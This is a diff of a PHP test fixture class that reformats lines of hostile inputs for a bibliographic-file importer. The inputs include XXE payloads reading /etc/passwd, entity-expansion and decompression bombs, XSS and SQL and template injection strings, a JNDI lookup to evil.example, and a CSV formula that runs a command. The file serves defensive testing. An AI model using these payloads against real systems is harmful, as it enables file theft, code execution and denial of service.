@@ -55,7 +55,10 @@ final class HostileFiles
         yield 'an entry that is read from right to left' => $inside("\u{202E}sir.exe");
         yield 'an entry with a line in its name' => $inside("a\nb.ris");
         yield 'an archive in an archive in an archive' => ['a.zip', self::zip(['b.zip' => self::zip(['c.zip' => $good])])];
-        yield 'three thousand entries' => ['a.zip', self::zip(array_fill_keys(array_map(fn (int $i): string => "{$i}.ris", range(1, 3000)), self::RIS))];
+        yield 'three thousand entries' => [
+            'a.zip',
+            self::zip(array_fill_keys(array_map(fn (int $i): string => "{$i}.ris", range(1, 3000)), self::RIS)),
+        ];
         yield 'a zip that unpacks to 300 MB' => ['a.zip', self::zip(['a.ris' => str_repeat(' ', 300_000_000)])];
         yield 'a gzip that unpacks to 200 MB' => ['a.ris.gz', (string) gzencode(str_repeat("\0", 200_000_000), 9)];
         yield 'a gzip in a gzip' => ['a.ris.gz', (string) gzencode((string) gzencode(self::RIS))];
@@ -106,10 +109,16 @@ final class HostileFiles
             range(1, 9),
         )).']>';
         yield 'a sheet with entities within entities' => $raw($laughs.$sheet($row('&a9;')));
-        yield 'a sheet that names a file of the machine' => $raw('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'.$sheet($row('&x;')));
+        yield 'a sheet that names a file of the machine' => $raw(
+            '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'.$sheet($row('&x;')),
+        );
         yield 'a sheet that names an address' => $raw('<!DOCTYPE w SYSTEM "http://127.0.0.1:9/x.dtd">'.$sheet($row('Lamps')));
-        yield 'a document type after a long comment' => $raw('<!--'.str_repeat('x', 6000).'--><!DOCTYPE w [<!ENTITY x "y">]>'.$sheet($row('&x;')));
-        yield 'a sheet in UTF-16 with a document type' => $raw("\xFF\xFE".mb_convert_encoding('<!DOCTYPE w []>'.$sheet($row('Lamps')), 'UTF-16LE'));
+        yield 'a document type after a long comment' => $raw(
+            '<!--'.str_repeat('x', 6000).'--><!DOCTYPE w [<!ENTITY x "y">]>'.$sheet($row('&x;')),
+        );
+        yield 'a sheet in UTF-16 with a document type' => $raw(
+            "\xFF\xFE".mb_convert_encoding('<!DOCTYPE w []>'.$sheet($row('Lamps')), 'UTF-16LE'),
+        );
         yield 'a workbook without a sheet' => $book('', ['xl/worksheets/sheet1.xml' => '']);
         yield 'a workbook without a workbook' => $book('', ['xl/workbook.xml' => '']);
         yield 'a sheet that is no XML' => $raw('%PDF-1.4 and nothing else');
@@ -136,7 +145,10 @@ final class HostileFiles
         $mods = fn (string $inner, string $before = '<?xml version="1.0"?>', string $ns = 'http://www.loc.gov/mods/v3'): array => [
             'a.xml', "{$before}<modsCollection xmlns=\"{$ns}\"><mods><titleInfo><title>{$inner}</title></titleInfo></mods></modsCollection>",
         ];
-        yield 'entities within entities' => $mods('&b;', '<!DOCTYPE m [<!ENTITY a "'.str_repeat('x', 1000).'"><!ENTITY b "'.str_repeat('&a;', 1000).'">]>');
+        yield 'entities within entities' => $mods(
+            '&b;',
+            '<!DOCTYPE m [<!ENTITY a "'.str_repeat('x', 1000).'"><!ENTITY b "'.str_repeat('&a;', 1000).'">]>',
+        );
         yield 'a file of the machine' => $mods('&x;', '<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
         yield 'an entity of parameters' => $mods('x', '<!DOCTYPE m [<!ENTITY % p SYSTEM "http://127.0.0.1:9/"> %p;]>');
         yield 'a document type in small letters' => $mods('&x;', '<!doctype m [<!ENTITY x "y">]>');
@@ -145,7 +157,9 @@ final class HostileFiles
         yield 'a style sheet' => $mods('Lamps', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>');
         yield 'twenty thousand elements within each other' => $mods(str_repeat('<a>', 20_000).str_repeat('</a>', 20_000));
         yield 'a hundred thousand open elements' => $mods(str_repeat('<a>', 100_000));
-        yield 'ten thousand attributes' => $mods('<a '.implode(' ', array_map(fn (int $i): string => "a{$i}=\"x\"", range(1, 10_000))).'/>');
+        yield 'ten thousand attributes' => $mods(
+            '<a '.implode(' ', array_map(fn (int $i): string => "a{$i}=\"x\"", range(1, 10_000))).'/>',
+        );
         yield 'an attribute of four million letters' => $mods('<a b="'.str_repeat('x', 4_000_000).'"/>');
         yield 'a title of four million letters' => $mods(str_repeat('x', 4_000_000));
         yield 'the same attribute twice' => $mods('<a b="1" b="2"/>');
@@ -154,7 +168,10 @@ final class HostileFiles
         yield 'an encoding that it does not have' => $mods("L\xE4mpchen \xFF", '<?xml version="1.0" encoding="UTF-8"?>');
         yield 'an encoding that nobody has' => $mods('Lamps', '<?xml version="1.0" encoding="x-evil"?>');
         yield 'UTF-7' => $mods('+ADw-script+AD4-', '<?xml version="1.0" encoding="UTF-7"?>');
-        yield 'UTF-16 with a document type' => ['a.xml', "\xFE\xFF".mb_convert_encoding($mods('&x;', '<!DOCTYPE m [<!ENTITY x "y">]>')[1], 'UTF-16BE')];
+        yield 'UTF-16 with a document type' => [
+            'a.xml',
+            "\xFE\xFF".mb_convert_encoding($mods('&x;', '<!DOCTYPE m [<!ENTITY x "y">]>')[1], 'UTF-16BE'),
+        ];
         yield 'sections that do not end' => $mods(str_repeat('<![CDATA[', 1000));
     }
 
@@ -168,15 +185,21 @@ final class HostileFiles
         yield 'forty thousand empty records' => ['a.ris', str_repeat("TY  - \nER  - \n", 40_000)];
         yield 'beginnings alone' => ['a.ris', str_repeat("TY  - JOUR\n", 20_000)];
         yield 'ends alone' => ['a.ris', str_repeat("ER  - \n", 20_000)];
-        yield 'a script in every field' => $ris("TI  - <script>alert(1)</script>\nAU  - <img src=x onerror=alert(1)>\nUR  - javascript:alert(1)");
+        yield 'a script in every field' => $ris(
+            "TI  - <script>alert(1)</script>\nAU  - <img src=x onerror=alert(1)>\nUR  - javascript:alert(1)",
+        );
         yield 'a title that is read from right to left' => $ris("TI  - \u{202E}thgin ta spmaL\nAU  - \u{2066}Haldor");
         yield 'years that are none' => $ris("TI  - Lamps\nPY  - 99999999999999999999\nPY  - -1\nPY  - 2020/99/99");
         yield 'a DOI that climbs' => $ris("TI  - Lamps\nDO  - 10.1234/../../up\nDO  - file:///etc/passwd");
         yield 'words for a database' => $ris("TI  - '; DROP TABLE records; --\nAU  - \$\$ || pg_sleep(9) || \$\$");
-        yield 'words for a template' => $ris("TI  - {{ 7 * 7 }} {!! system('id') !!} @php echo 1; @endphp\nAB  - \${jndi:ldap://evil.example}");
+        yield 'words for a template' => $ris(
+            "TI  - {{ 7 * 7 }} {!! system('id') !!} @php echo 1; @endphp\nAB  - \${jndi:ldap://evil.example}",
+        );
         yield 'a nul between all letters' => ['a.ris', implode("\0", str_split(self::RIS))];
         yield 'lines that end in every way' => ['a.ris', str_replace("\n", "\r\r\n\u{2028}", self::RIS)];
-        yield 'tags that nobody has' => $ris(implode("\n", array_map(fn (int $i): string => 'Z'.chr(65 + $i % 26).'  - x', range(1, 5000))));
+        yield 'tags that nobody has' => $ris(
+            implode("\n", array_map(fn (int $i): string => 'Z'.chr(65 + $i % 26).'  - x', range(1, 5000))),
+        );
         yield 'marks on a letter without end' => $ris('TI  - z'.str_repeat("\u{0351}\u{0300}", 50_000));
         yield 'tagged text without an end' => ['a.nbib', "PMID- 1\nTI  - Lamps\n".str_repeat("      and on\n", 100_000)];
         yield 'tagged text of numbers alone' => ['a.nbib', str_repeat("PMID- 99999999999999999999\n\n", 10_000)];
@@ -186,7 +209,10 @@ final class HostileFiles
     private static function bibtex(): \Generator
     {
         $entry = fn (string $fields): array => ['a.bib', "@article{lamps, title = {Lamps}, {$fields}}\n"];
-        $doubling = '@string{a0 = "ha"}'.implode("\n", array_map(fn (int $i): string => "@string{a{$i} = a".($i - 1).' # a'.($i - 1).'}', range(1, 60)));
+        $doubling = '@string{a0 = "ha"}'.implode(
+            "\n",
+            array_map(fn (int $i): string => "@string{a{$i} = a".($i - 1).' # a'.($i - 1).'}', range(1, 60)),
+        );
         yield 'macros that double' => ['a.bib', "{$doubling}\n@article{x, title = a60}"];
         yield 'two hundred thousand joined pieces' => $entry('note = '.implode(' # ', array_fill(0, 200_000, '"a"')));
         yield 'a macro that is itself' => ['a.bib', "@string{a = a # a}\n@article{x, title = a}"];
@@ -227,7 +253,10 @@ final class HostileFiles
         $csv = fn (string $text): array => ['a.csv', "Title,Authors,Year\n{$text}"];
         yield 'a quote that does not end' => $csv('"Lamps'.str_repeat("\nand on", 100_000));
         yield 'formulas' => $csv("=cmd|' /C calc'!A0,+1+1,@SUM(A1)\n-2+3,\t=1,\r=2");
-        yield 'six hundred columns' => ['a.csv', implode(',', array_map(fn (int $i): string => "c{$i}", range(1, 600)))."\n".str_repeat('x,', 600)];
+        yield 'six hundred columns' => [
+            'a.csv',
+            implode(',', array_map(fn (int $i): string => "c{$i}", range(1, 600)))."\n".str_repeat('x,', 600),
+        ];
         yield 'rows of a hundred thousand cells' => $csv(str_repeat(',', 100_000));
         yield 'a heading a thousand times' => ['a.csv', implode(',', array_fill(0, 1000, 'Title'))."\n".str_repeat('x,', 1000)];
         yield 'a table without a heading' => ['a.csv', str_repeat("1,2,3\n", 1000)];
